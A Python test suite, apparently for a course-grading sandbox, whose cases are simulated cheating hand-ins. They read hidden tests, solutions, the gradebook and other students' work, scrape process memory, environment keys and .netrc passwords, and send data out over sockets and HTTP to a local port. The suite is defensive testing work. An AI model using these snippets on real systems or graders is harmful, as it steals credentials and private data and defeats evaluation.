"""Reading what is not the attendee's: solutions, hidden tests, others' work, the gradebook, keys."""

from pathlib import Path

from tests.security.attack import attack, called_home, gained, leaked, went_through
from tests.security.handin import HandIn
from tests.security.scene import (
    ASSIGNMENT,
    IN_ANOTHERS_WORK,
    IN_ENVIRONMENT,
    IN_GRADEBOOK,
    IN_HIDDEN_INPUT,
    IN_HIDDEN_TEST,
    IN_HOME,
    IN_SOLUTION,
    RIGHT,
)


@attack("solutions-read", "Reads the solutions in the course's source folder.", seen=leaked(IN_SOLUTION), together=True)
def _(work: HandIn) -> None:
    work.run("""
        for jalur in pathlib.Path(KURSUS, "source").rglob("*.ipynb"):
            teks = jalur.read_text()
            bawa(teks[teks.index("RAHASIA-JAWABAN") - 200:][:300])
    """)


@attack(
    "hidden-tests-read",
    "Reads the hidden tests in the course's source folder.",
    seen=leaked(IN_HIDDEN_TEST),
    together=True,
)
def _(work: HandIn) -> None:
    work.run("""
        for jalur in pathlib.Path(KURSUS).rglob("*.ipynb"):
            teks = jalur.read_text()
            if "RAHASIA-UJI" in teks:
                bawa(teks[teks.index("RAHASIA-UJI") - 100:][:900])
                break
    """)


@attack(
    "hidden-tests-from-history",
    "Takes the hidden tests from the shell's history.",
    seen=leaked(IN_HIDDEN_TEST),
    together=True,
)
def _(work: HandIn) -> None:
    work.run(
        """
        sumber = get_ipython().history_manager.input_hist_raw
        for teks in list(sumber):
            if "RAHASIA-UJI" in teks:
                bawa(teks[:2000])
    """,
        before="catatan-asisten",
    )


@attack(
    "hidden-tests-from-memory", "Searches its own memory for hidden tests.", seen=leaked(IN_HIDDEN_TEST), together=True
)
def _(work: HandIn) -> None:
    work.run(
        """
        kunci = "RAHASIA" + "-UJI-"
        for baris in open("/proc/self/maps"):
            kolom = baris.split()
            if "rw" not in kolom[1] or "[vv" in baris:
                continue
            awal, akhir = (int(angka, 16) for angka in kolom[0].split("-"))
            if akhir - awal > 80_000_000:
                continue
            try:
                with open("/proc/self/mem", "rb", 0) as ingatan:
                    ingatan.seek(awal)
                    isi = ingatan.read(akhir - awal)
            except OSError:
                continue
            tempat = isi.find(kunci.encode())
            while tempat >= 0:
                bawa(isi[tempat:tempat + 300].decode("utf-8", "replace"))
                tempat = isi.find(kunci.encode(), tempat + 300)
    """,
        before="catatan-asisten",
    )


@attack(
    "hidden-input-printed",
    "A function asked for prints what the hidden tests give it.",
    seen=leaked(IN_HIDDEN_INPUT),
    earns={"fungsi-papan": 6},
)
def _(work: HandIn) -> None:
    work.answer("fungsi-papan", right=True)
    work.cell("fungsi-papan").source += (
        "\n\n_jujur = papan_capaian\n"
        "def papan_capaian(tabel, tahun, minimal):\n"
        "    print(tabel.to_csv())\n"
        "    get_ipython().displayhook(tabel)\n"
        "    from IPython.display import display\n"
        "    display(tabel)\n"
        "    import os, warnings\n"
        "    os.write(1, tabel.to_csv().encode())\n"
        "    os.write(2, tabel.to_csv().encode())\n"
        "    warnings.warn(tabel.to_csv())\n"
        "    return _jujur(tabel, tahun, minimal)\n"
    )


@attack(
    "hidden-input-kept-for-later",
    "A function asked for keeps what the hidden tests give it, and a later cell prints it.",
    seen=leaked(IN_HIDDEN_INPUT),
    earns={"fungsi-papan": 6},
)
def _(work: HandIn) -> None:
    work.answer("fungsi-papan", right=True)
    work.cell("fungsi-papan").source += (
        "\n\n_jujur, disimpan = papan_capaian, []\n"
        "def papan_capaian(tabel, tahun, minimal):\n"
        "    disimpan.append(tabel.to_csv())\n"
        "    open('disimpan.txt', 'a').write(tabel.to_csv())\n"
        "    return _jujur(tabel, tahun, minimal)\n"
    )
    work.run("bawa(disimpan); bawa(open('disimpan.txt').read())", before="catatan-asisten")


@attack(
    "hidden-input-in-exception",
    "A function asked for raises an error whose name and message are what the hidden tests gave it.",
    seen=leaked(IN_HIDDEN_INPUT),
    stock=False,
)
def _(work: HandIn) -> None:
    work.answer("fungsi-papan", right=True)
    work.cell("fungsi-papan").source += (
        "\n\n_jujur = papan_capaian\n"
        "def papan_capaian(tabel, tahun, minimal):\n"
        "    if tabel['tahun'].min() == 2026:\n"
        "        raise type(str(list(tabel['opd'])), (Exception,), {})(tabel.to_csv())\n"
        "    return _jujur(tabel, tahun, minimal)\n"
    )


@attack("anothers-work-read", "Reads what another attendee handed in.", seen=leaked(IN_ANOTHERS_WORK), together=True)
def _(work: HandIn) -> None:
    work.run(f"""
        teks = pathlib.Path(KURSUS, "submitted", "{RIGHT[0]}", "{ASSIGNMENT}", "{ASSIGNMENT}.ipynb").read_text()
        bawa(teks[teks.index("RAHASIA-TEMAN") - 300:][:400])
    """)


@attack("anothers-work-copied", "Takes its answers from another attendee's hand-in.", seen=gained)
def _(work: HandIn) -> None:
    work.run(f"""
        import json
        jalur = pathlib.Path(KURSUS, "submitted", "{RIGHT[0]}", "{ASSIGNMENT}", "{ASSIGNMENT}.ipynb")
        milik_teman = {{cell["id"]: "".join(cell["source"]) for cell in json.loads(jalur.read_text())["cells"]}}
    """)
    work.write("saring", "exec(milik_teman['saring'])")


@attack("anothers-work-linked", "Hands in a symbolic link to another attendee's notebook.", seen=gained)
def _(work: HandIn) -> None:
    def link(folder: Path) -> None:
        notebook = folder / f"{ASSIGNMENT}.ipynb"
        notebook.unlink()
        notebook.symlink_to(Path("../..") / RIGHT[0] / ASSIGNMENT / notebook.name)

    work.afterwards.append(link)


@attack(
    "links-out-of-the-hand-in", "Hands in symbolic links to the sources and the gradebook.", seen=leaked(IN_SOLUTION)
)
def _(work: HandIn) -> None:
    def link(folder: Path) -> None:
        (folder / "data").symlink_to("../../../source")
        (folder / "nilai.db").symlink_to("../../../gradebook.db")
        (folder / "buku.ipynb.txt").symlink_to(work.scene.course / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")

    work.afterwards.append(link)
    work.run("""
        for jalur in ["buku.ipynb.txt", *pathlib.Path("data").rglob("*.ipynb")]:
            try:
                teks = pathlib.Path(jalur).read_text()
                bawa(teks[teks.index("RAHASIA-JAWABAN") - 200:][:300])
            except (OSError, ValueError) as galat:
                print(type(galat).__name__)
    """)


@attack("gradebook-read", "Reads everybody's names and points.", seen=leaked(IN_GRADEBOOK), together=True)
def _(work: HandIn) -> None:
    work.run("""
        import sqlite3
        buku = sqlite3.connect(f"file:{KURSUS}/gradebook.db?mode=ro", uri=True)
        bawa(buku.execute("select * from student").fetchall())
    """)


@attack("environment-read", "Reads keys from the environment.", seen=leaked(IN_ENVIRONMENT), together=True)
def _(work: HandIn) -> None:
    work.run("bawa({nama: nilai for nama, nilai in os.environ.items() if 'KEY' in nama or 'TOKEN' in nama})")


@attack(
    "environment-of-parent-read",
    "Reads keys from the environment of the processes above it.",
    seen=leaked(IN_ENVIRONMENT),
    together=True,
)
def _(work: HandIn) -> None:
    work.run("""
        for jalur in pathlib.Path("/proc").glob("[0-9]*/environ"):
            if jalur.parent.name == str(os.getpid()):
                continue
            try:
                for bagian in jalur.read_bytes().split(b"\\0"):
                    if b"RAHASIA" in bagian:
                        bawa(bagian.decode())
            except OSError:
                pass
    """)


@attack(
    "memory-of-parent-read",
    "Searches the memory of the processes above it for keys.",
    seen=leaked(IN_ENVIRONMENT),
    together=True,
)
def _(work: HandIn) -> None:
    work.run("""
        kunci = b"RAHASIA-LING" + b"KUNGAN-"
        atas = {os.getppid(), 1}
        for nomor in atas:
            try:
                peta = open(f"/proc/{nomor}/maps").read().splitlines()
                ingatan = open(f"/proc/{nomor}/mem", "rb", 0)
            except OSError as galat:
                print(type(galat).__name__)
                continue
            for baris in peta:
                kolom = baris.split()
                if "[stack]" in baris or "[heap]" in baris:
                    awal, akhir = (int(angka, 16) for angka in kolom[0].split("-"))
                    try:
                        ingatan.seek(awal)
                        isi = ingatan.read(akhir - awal)
                    except OSError:
                        continue
                    tempat = isi.find(kunci)
                    if tempat >= 0:
                        bawa(isi[tempat:tempat + 60].decode("utf-8", "replace"))
    """)


@attack("home-read", "Reads the trainer's passwords from the home folder.", seen=leaked(IN_HOME), together=True)
def _(work: HandIn) -> None:
    rumah = str(work.scene.home)
    work.run(f"""
        for rumah in {{os.path.expanduser("~"), {rumah!r}}}:
            try:
                bawa(open(os.path.join(rumah, ".netrc")).read())
            except OSError as galat:
                print(type(galat).__name__)
    """)


@attack(
    "trainers-keys-read",
    "Reads the kit's own solutions and answer keys beside its code.",
    seen=went_through,
    together=True,
)
def _(work: HandIn) -> None:
    work.run("""
        import workshop_kit
        paket = pathlib.Path(workshop_kit.__file__).parent
        for jalur in [*paket.glob("curriculum/*/lesson.py"), *paket.parent.glob("solutions/**/*")]:
            if jalur.is_file() and jalur.stat().st_size:
                tembus()
                break
        if "contoh jawaban" in next(paket.glob("curriculum/m04*/checks.py")).read_text():
            tembus()
    """)


@attack("called-by-tcp", "Sends to a server over TCP.", seen=called_home, together=True)
def _(work: HandIn) -> None:
    work.run("""
        import socket
        with socket.create_connection(("127.0.0.1", PORT), timeout=2) as sambungan:
            sambungan.sendall(NAMA.encode())
    """)


@attack("called-by-udp", "Sends to a server over UDP.", seen=called_home, together=True)
def _(work: HandIn) -> None:
    work.run("""
        import socket
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(NAMA.encode(), ("127.0.0.1", PORT))
    """)


@attack("called-by-local-socket", "Sends over a local socket, which no firewall sees.", seen=called_home, together=True)
def _(work: HandIn) -> None:
    work.run("""
        import socket
        socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(NAMA.encode(), f"\\0jarahan-{PORT}")
    """)


@attack("called-by-other-program", "Has another program make the connection.", seen=called_home, together=True)
def _(work: HandIn) -> None:
    work.run("""
        import subprocess
        kode = "import socket, sys; s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))"
        kode += "; s.sendall(sys.argv[2].encode())"
        subprocess.run([sys.executable, "-S", "-c", kode, str(PORT), NAMA], timeout=10)
    """)


@attack("called-by-web-request", "Asks for a page whose address carries the loot.", seen=called_home, together=True)
def _(work: HandIn) -> None:
    work.run("""
        import urllib.request
        urllib.request.urlopen(f"http://127.0.0.1:{PORT}/{NAMA}", timeout=1)
    """)
